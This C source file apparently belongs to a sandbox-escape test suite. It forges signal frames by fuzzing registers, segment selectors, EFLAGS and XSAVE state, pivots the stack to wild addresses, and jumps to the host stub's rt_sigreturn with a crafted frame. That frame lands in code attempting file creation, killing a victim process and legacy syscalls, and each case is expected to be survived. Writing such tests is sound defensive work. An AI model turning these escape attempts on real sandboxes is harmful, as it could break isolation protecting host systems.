// SPDX-License-Identifier: Apache-2.0
// Forged signal frames: the guest's own rt_sigreturn, which the sentry serves, and the host's, which code in
// the stub can reach (the only host call that needs no order).
#include "escape.h"
#include <stddef.h>

static unsigned variant;

#define FP_MAGIC1 0x46505853u
static uint32_t *fp_words(ucontext_t *uc) { return (uint32_t *)uc->uc_mcontext.fpregs; }

static void forge(int sig, siginfo_t *si, void *arg) {
    ucontext_t *uc = arg;
    greg_t *r = uc->uc_mcontext.gregs;
    uint32_t *fp = fp_words(uc);
    const uint64_t odd[] = {0,
                            8,
                            NOT_CANONICAL,
                            KERNEL_HALF,
                            ~0ul,
                            VSYSCALL,
                            TASK_SIZE,
                            TASK_SIZE - 8,
                            host.base,
                            host.slots,
                            host.slots + STUB_SLOT,
                            host.gate,
                            host.sigreturn};
    const size_t nodd = sizeof odd / sizeof *odd;
    const uint16_t selectors[] = {0, 3, 8, 0x10, 0x18, 0x23, 0x2b, 0x33, 0x3b, 0xffff, 7, 0xf};
    unsigned v = variant;
    if (v < nodd) {
        r[REG_RIP] = (greg_t)odd[v];
    } else if ((v -= nodd) < nodd) {
        r[REG_RSP] = (greg_t)odd[v];
    } else if ((v -= nodd) < 24) {
        unsigned short *cs = (unsigned short *)&r[REG_CSGSFS];
        cs[v < 12 ? 0 : 3] = selectors[v % 12];
    } else if ((v -= 24) < 22) {
        r[REG_EFL] ^= 1 << v;
    } else if ((v -= 22) < nodd) {
        uc->uc_mcontext.fpregs = (fpregset_t)odd[v];
    } else if ((v -= nodd) < 4) {
        uc->uc_mcontext.fpregs = (fpregset_t)((char *)uc->uc_mcontext.fpregs + (1 << v));
    } else if ((v -= 4) < 4) {
        fp[6] = (const uint32_t[]){0xffffffff, 0xffff, 0x10000, 0}[v];  // MXCSR
    } else if ((v -= 4) < 12) {
        fp[116 + v % 6] = v < 6 ? 0xffffffff : 0;  // magic, sizes and features of the extended state
    } else if ((v -= 12) < 16) {
        fp[128 + v] ^= 0x80000001u;  // the XSAVE header: features in use, compaction, reserved words
    } else if ((v -= 16) < 32) {
        for (unsigned i = 0; i < 160; i++)
            fp[random64() % 200] = (uint32_t)random64();
    } else {
        for (unsigned i = 0; i < v; i++)
            r[random64() % 23] = (greg_t)(i & 1 ? random64() : odd[random64() % nodd]);
    }
}
#define VARIANTS 300

// After a return that worked: the segments are user's, 64-bit, and calls work.
static void look_around(void) {
    unsigned short cs;
    uint64_t flags;
    __asm__ volatile("mov %%cs, %0" : "=r"(cs));
    __asm__ volatile("pushfq\n\tpop %0" : "=r"(flags));
    if ((cs & 3) != 3)
        escaped("variant %u: cs is %#x", variant, cs);
    if (flags & 0x23000)  // IOPL, VM
        escaped("variant %u: eflags are %#lx", variant, flags);
    if (getppid() < 0)
        escaped("variant %u: getppid", variant);
}

static void in_handler(void) {
    for (variant = 0; variant < VARIANTS; variant++) {
        pid_t pid = fork();
        need(pid >= 0);
        if (pid == 0) {
            struct sigaction sa = {.sa_sigaction = forge, .sa_flags = SA_SIGINFO};
            sigaction(SIGUSR1, &sa, NULL);
            ualarm(300000, 0);
            raise(SIGUSR1);
            look_around();
            _exit(0);
        }
        wait_limited(pid, 10);
    }
}

// The same with a handler that catches the SIGSEGV that Linux answers with: frames inside frames.
static void in_handler_caught(void) {
    for (variant = 0; variant < VARIANTS; variant += 3) {
        pid_t pid = fork();
        need(pid >= 0);
        if (pid == 0) {
            struct sigaction sa = {.sa_sigaction = forge, .sa_flags = SA_SIGINFO};
            sigaction(SIGUSR1, &sa, NULL);
            ualarm(300000, 0);
            catch_faults();
            (void)fault_of(raise(SIGUSR1));
            look_around();
            _exit(0);
        }
        wait_limited(pid, 10);
    }
}

static void with_stack(uint64_t sp) {
    __asm__ volatile("mov %0, %%rsp\n\tmov $15, %%eax\n\tsyscall\n\thlt" : : "r"(sp) : "memory");
    __builtin_unreachable();
}
static void wild_stack(void) {
    static uint64_t noise[1024];
    const uint64_t at[] = {0,
                           8,
                           KERNEL_HALF,
                           NOT_CANONICAL,
                           host.base,
                           host.slots,
                           host.slots + STUB_SLOT - 512,
                           ~7ul,
                           TASK_SIZE - 64,
                           VSYSCALL,
                           (uint64_t)noise,
                           (uint64_t)&noise[100],
                           (uint64_t)noise + 4};
    for (size_t i = 0; i < sizeof at / sizeof *at; i++)
        for (int round = 0; round < 4; round++) {
            for (size_t k = 0; k < 1024; k++)
                noise[k] = round < 2 ? -(uint64_t)round : random64();
            pid_t pid = fork();
            need(pid >= 0);
            if (pid == 0) {
                ualarm(300000, 0);
                with_stack(at[i]);
            }
            wait_limited(pid, 10);
        }
}

// ---- A10: the host's own rt_sigreturn, behind the stub's address, with a frame of the attacker's ----------
struct frame {
    ucontext_t uc;
    uint64_t fp[1024];
} __attribute__((aligned(64)));
static struct frame frame;
static volatile sig_atomic_t back;
static char other_stack[65536];

void landing(void);
// Where the forged frame leads to: calls of all kinds, as the attacker hopes unseen.
static __attribute__((used)) void after_return(void) {
    char path[96];
    snprintf(path, sizeof path, "/tmp/%s-sigreturn", host.name);
    raw(SYS_getppid, 0, 0, 0, 0, 0, 0);
    raw(SYS_openat, (uint64_t)AT_FDCWD, (uint64_t)path, O_CREAT | O_WRONLY, 0666, 0, 0);
    raw(SYS_kill, (uint64_t)host.victim, SIGKILL, 0, 0, 0, 0);
    raw(SYS_munmap, 0, 0, 0, 0, 0, 0);
    void *p = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p != MAP_FAILED)
        *(volatile char *)p = 1;
    raw(0x40000000 | SYS_getpid, 0, 0, 0, 0, 0, 0);
    __asm__ volatile("int $0x80" : : "a"(20L), "b"(0L) : "memory");
    pid_t pid = fork();
    if (pid == 0)
        _exit(0);
    unlink(path);
    _exit(0);
}
__asm__(".globl landing\nlanding: and $-16, %rsp\n\tcall after_return\n\thlt");

static void host_sigreturn(unsigned how) {
    static char stack[65536];
    memset(&frame, 0, sizeof frame);
    frame.uc.uc_mcontext.gregs[REG_RIP] = (greg_t)landing;
    frame.uc.uc_mcontext.gregs[REG_RSP] = (greg_t)(stack + sizeof stack - 4096);
    frame.uc.uc_mcontext.gregs[REG_EFL] = 0x202;
    uint16_t *seg = (uint16_t *)&frame.uc.uc_mcontext.gregs[REG_CSGSFS];
    seg[0] = 0x33;
    seg[3] = 0x2b;
    frame.uc.uc_flags = 6;
    frame.uc.uc_stack.ss_sp = (void *)host.slots;
    frame.uc.uc_stack.ss_size = STUB_SLOT;
    frame.uc.uc_stack.ss_flags = (int)(1u << 31);
    uint64_t mask = 0;
    switch (how) {
    case 0: mask = ~0ul; break;
    case 1: mask = 1ul << (SIGSYS - 1); break;
    case 2: mask = 1ul << (SIGSEGV - 1) | 1ul << (SIGTRAP - 1); break;
    case 3: mask = 1ul << 62; break;  // the interrupting signal: it would never be heard
    case 4: frame.uc.uc_stack.ss_flags = SS_DISABLE; break;
    case 5: frame.uc.uc_stack.ss_sp = other_stack, frame.uc.uc_stack.ss_size = sizeof other_stack; break;
    case 6: frame.uc.uc_stack.ss_sp = (void *)(host.slots + STUB_SLOT); break;
    case 7: frame.uc.uc_stack.ss_sp = (void *)(host.slots + 5 * STUB_SLOT); break;
    case 8: frame.uc.uc_stack.ss_sp = (void *)host.base; break;
    case 9: frame.uc.uc_stack.ss_sp = (void *)KERNEL_HALF; break;
    case 10: frame.uc.uc_stack.ss_flags = 0; break;
    case 11: frame.uc.uc_stack.ss_size = 2048; break;
    case 12: frame.uc.uc_mcontext.gregs[REG_RIP] = (greg_t)host.gate; break;
    case 13: seg[0] = 0x23; break;
    case 14: frame.uc.uc_mcontext.gregs[REG_EFL] = 0x302; break;
    case 15: frame.uc.uc_mcontext.fpregs = (fpregset_t)frame.fp; break;
    case 16: frame.uc.uc_mcontext.gregs[REG_RIP] = (greg_t)host.sigreturn; break;
    case 17: frame.uc.uc_stack.ss_sp = (void *)(host.end - STUB_SLOT); break;
    default:
        for (size_t i = 0; i < sizeof frame.uc / 8; i++)
            if (random64() % 4 == 0)
                ((uint64_t *)&frame.uc)[i] = random64();
    }
    memcpy((char *)&frame.uc + offsetof(ucontext_t, uc_sigmask), &mask, 8);
    ualarm(300000, 0);
    __asm__ volatile("mov %0, %%rsp\n\tmov $15, %%eax\n\tjmp *%1"
                     :
                     : "r"(&frame.uc), "r"(host.sigreturn)
                     : "memory");
    __builtin_unreachable();
}

static void by_the_stub(void) {
    for (unsigned how = 0; how < 60; how++) {
        pid_t pid = fork();
        need(pid >= 0);
        if (pid == 0)
            host_sigreturn(how);
        wait_limited(pid, 10);
    }
    (void)back;
}

// A process that blocks the interrupting signal by that road can still be killed by its peers.
static void deaf_process(void) {
    pid_t pid = fork();
    need(pid >= 0);
    if (pid == 0) {
        host_sigreturn(3);
    }
    usleep(20000);
    kill(pid, SIGKILL);
    wait_limited(pid, 10);
}

ATTACKS({"A09_in_handler", in_handler, SURVIVES},
        {"A09_in_handler_caught", in_handler_caught, SURVIVES},
        {"A09_wild_stack", wild_stack, SURVIVES},
        {"A10_by_the_stub", by_the_stub, SURVIVES},
        {"A10_deaf_process", deaf_process, SURVIVES})
